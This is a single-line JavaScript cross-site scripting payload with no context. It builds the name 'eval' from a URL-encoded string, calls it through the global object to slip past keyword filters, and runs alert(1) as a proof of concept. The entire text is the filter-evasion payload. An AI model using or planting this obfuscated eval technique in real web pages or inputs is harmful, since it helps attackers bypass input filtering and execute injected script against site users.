self[decodeURIComponent('%65%76%61%6c')]('alert(1)');
